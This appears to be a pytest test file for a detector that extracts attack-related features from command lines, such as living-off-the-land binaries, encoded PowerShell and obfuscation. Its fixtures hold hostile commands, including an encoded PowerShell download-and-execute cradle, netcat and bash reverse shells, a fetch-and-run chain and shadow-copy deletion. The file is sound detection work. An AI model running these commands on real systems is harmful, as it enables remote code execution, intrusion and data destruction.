"""Command lines say what they are and what hides in them."""

import base64

import pytest

from phantom_ml.data.schema import ColumnKind
from tests.features.columns.made import computed, fitted, parts_of

ENCODED = base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://a.example/b')".encode("utf-16-le")
).decode()


def part(name: str, text: str):
    return computed("command_line", [text])[name].item()


@pytest.mark.parametrize(
    ("text", "technique"),
    [
        (r"C:\Windows\System32\certutil.exe -hashfile a.bin", "T1105"),
        ("MSHTA.EXE vbscript:Close(1)", "T1218.005"),
        ("rundll32 shell32.dll,Control_RunDLL", "T1218.011"),
        ("/usr/bin/python3.11 -m http.server", "T1059.006"),
        ("crontab -l", "T1053.003"),
        ("procdump -ma 624", "T1003.001"),
        ("aws sts get-caller-identity", "T1059.009"),
        ("perl5.36 a.pl", "T1059"),
        ("apt-get install nmap", "T1059"),
        ("winword.exe /n a.docx", None),
    ],
)
def test_a_program_that_attackers_live_off_is_told_with_its_technique(text, technique):
    found = computed("command_line", [text]).row(0, named=True)
    assert (found["lolbin_technique"], found["is_lolbin"]) == (technique, technique is not None)


def test_a_line_without_program_has_no_executable():
    found = computed("command_line", ["  "]).row(0, named=True)
    assert (found["executable"], found["location"], found["lolbin_technique"]) == (None,) * 3


@pytest.mark.parametrize(
    "switch",
    [
        "-e",
        "-ec",
        "-en",
        "-enc",
        "-Enco",
        "-EncodedCommand",
        "/enc",
        "\u2013enc",
        "-^e^nc",
        "-e`nc",
    ],
)
def test_every_shortened_encoded_switch_is_told(switch):
    assert part("has_encoded_switch", f"powershell {switch} {ENCODED}")


@pytest.mark.parametrize(
    "text",
    [
        "powershell -ExecutionPolicy Bypass -File a.ps1",
        "powershell -ea Stop",
        "grep -e pattern file",
        "nc -e /bin/sh host 1",
    ],
)
def test_other_switches_are_not_taken_for_it(text):
    assert not part("has_encoded_switch", text)


@pytest.mark.parametrize(
    ("flag", "text"),
    [
        ("has_hidden_window", "powershell.exe -w hidden -c 1"),
        ("has_hidden_window", "pwsh -WindowStyle 1 -c 1"),
        ("has_hidden_window", "Start-Process a.exe -WindowStyle Hidden"),
        ("has_execution_bypass", "powershell -ep bypass -f a.ps1"),
        ("has_execution_bypass", "powershell -Exec Unrestricted -f a.ps1"),
        ("has_execution_bypass", "powershell -c Set-ExecutionPolicy Bypass"),
        ("has_no_profile", "powershell -nop -c 1"),
        ("has_no_profile", "pwsh -NoProfile -c 1"),
        ("has_invoke", "powershell -c I`E`X $a"),
        ("has_invoke", "powershell Invoke-Expression $a"),
        ("has_url", "curl hTTp://a.example/"),
        ("has_ip", "ping 10.20.30.255"),
        ("has_unc", r"copy a.txt \\server\share\a.txt"),
        ("has_double_extension", r"C:\Users\a\invoice.pdf.exe"),
        ("is_shell", "/bin/bash -c ls"),
        ("is_interpreter", "python3 a.py"),
        ("has_base64", f"echo {ENCODED}"),
    ],
)
def test_a_sign_is_told(flag, text):
    assert part(flag, text)


@pytest.mark.parametrize(
    ("flag", "text"),
    [
        ("has_hidden_window", "ping -w 1 host"),
        ("has_execution_bypass", "sc config bypass"),
        ("has_no_profile", "make -nopb"),
        ("has_invoke", "invoked by hand"),
        ("has_url", "echo http"),
        ("has_ip", "app --version 300.1.2.3"),
        ("has_unc", r"type \\?\C:\a.txt"),
        ("has_double_extension", "report.pdf"),
        ("is_shell", "/bin/ls"),
        ("has_base64", "/usr/lib/python3/dist-packages/setuptools/command/build/Py310"),
    ],
)
def test_a_sign_is_not_seen_where_there_is_none(flag, text):
    assert not part(flag, text)


@pytest.mark.parametrize(
    ("count", "text", "number"),
    [
        ("caret_count", "c^m^d", 2),
        ("backtick_count", "I`E`X", 2),
        ("concatenation_count", "powershell ('a'+'b' + \"c\")", 2),
        ("percent_variable_count", "echo %TEMP% %USERNAME% 100%", 2),
        ("env_variable_count", "powershell $env:TEMP ${ENV:x}", 2),
        ("quote_count", "echo \"a\" 'b'", 4),
        ("pipe_count", "a | b | c", 2),
        ("pipe_count", "a|b|c", 2),
        ("pipe_count", "a || b | c", 1),
        ("pipe_count", "a || b || c", 0),
        ("redirect_count", "a < b >> c 2>&1", 3),
        ("separator_count", "a; b && c || d", 3),
        ("separator_count", "cmd /c dir & whoami&ver", 2),
        ("separator_count", 'curl "http://x?a=1&b=2"', 0),
        ("separator_count", "curl http://x?a=1&b=2", 0),
        ("separator_count", "a 2>&1 &> b", 0),
        ("separator_count", "& 'C:/x.exe' -a", 0),
        ("separator_count", "sleep 9 &", 0),
        ("slice_count", "%comspec:~0,1%%comspec:~-3%", 2),
        ("slice_count", "powershell $env:comspec[4,26,25]-join''", 1),
        ("char_code_count", "powershell [char]0x41+[CHAR]66", 2),
        ("char_code_count", "python -c exec(chr(65)+chr(66))", 2),
        ("string_operator_count", "powershell ('a','b') -join '' -replace 'x','y'", 2),
        ("string_operator_count", "powershell $a -split ','", 1),
        ("string_operator_count", "powershell (-join ('a','b'))", 1),
        ("string_operator_count", "powershell '{1}{0}' -f 'x','e'", 1),
        ("string_operator_count", "certutil -split -f a b", 0),
        ("string_operator_count", 'certutil -urlcache -f "http://a.example/b" c', 0),
        ("string_operator_count", "echo sl | rev", 1),
        ("download_verb_count", "(New-Object Net.WebClient).DownloadString('x')", 2),
        ("download_verb_count", "certutil -urlcache -f x; curl x; wget y", 3),
        ("bracket_depth", "f(a[b{c}]) (d)", 3),
        ("argument_count", 'cmd /c "echo a b"', 2),
        ("longest_token", "ab abcd abc", 4),
        ("risky_switch_count", "wget http://a.example/b; chmod +x b; ./b", 2),
        ("technique_count", "bash -i >& /dev/tcp/10.0.0.1/1 0>&1", 1),
    ],
)
def test_a_count_is_exact(count, text, number):
    assert part(count, text) == number


def test_obfuscation_is_the_share_of_what_shells_ignore():
    assert part("obfuscation", "c^m^d  /c") == pytest.approx(3 / 9)


def test_a_plain_line_is_not_obfuscated():
    assert part("obfuscation", r'"C:\Program Files\a.exe" -x') == 0


def test_shares_of_classes_are_of_all_bytes():
    found = computed("command_line", ["A1b2 -\u00e9!"]).row(0, named=True)
    shares = [found[s] for s in ("digit_share", "upper_share", "special_share")]
    assert shares == pytest.approx([2 / 9, 1 / 9, 2 / 9])


def test_the_share_outside_ascii_is_of_all_characters():
    assert part("non_ascii_share", "A1b2 -\u00e9!") == pytest.approx(1 / 8)


def test_an_encoded_script_is_readable_as_utf16():
    found = computed("command_line", [f"powershell -enc {ENCODED}"]).row(0, named=True)
    assert (found["base64_utf16_share"], found["base64_length"]) == (1.0, len(ENCODED))


def test_an_encoded_command_is_read_though_it_is_short():
    whoami = base64.b64encode("whoami".encode("utf-16-le")).decode()
    assert part("base64_printable_share", f"powershell -e {whoami}") == 1.0


def test_without_base64_its_parts_are_missing():
    assert part("base64_printable_share", "dir") is None


def test_the_gravest_risky_technique_names_the_line():
    assert part("risky_technique", "whoami & vssadmin delete shadows /all") == "T1490"


def test_words_become_levels_where_training_has_them_often_enough():
    lines = [f"{name} -a {i}" for i in range(6) for name in ("curl", "tar")] + ["rare -a 1"]
    encoder = fitted("command_line", lines, ColumnKind.COMMAND_LINE)
    found = parts_of(encoder, ["curl -b", "rare -b", "new -b"])
    assert found["executable"].to_list() == ["curl", None, None]
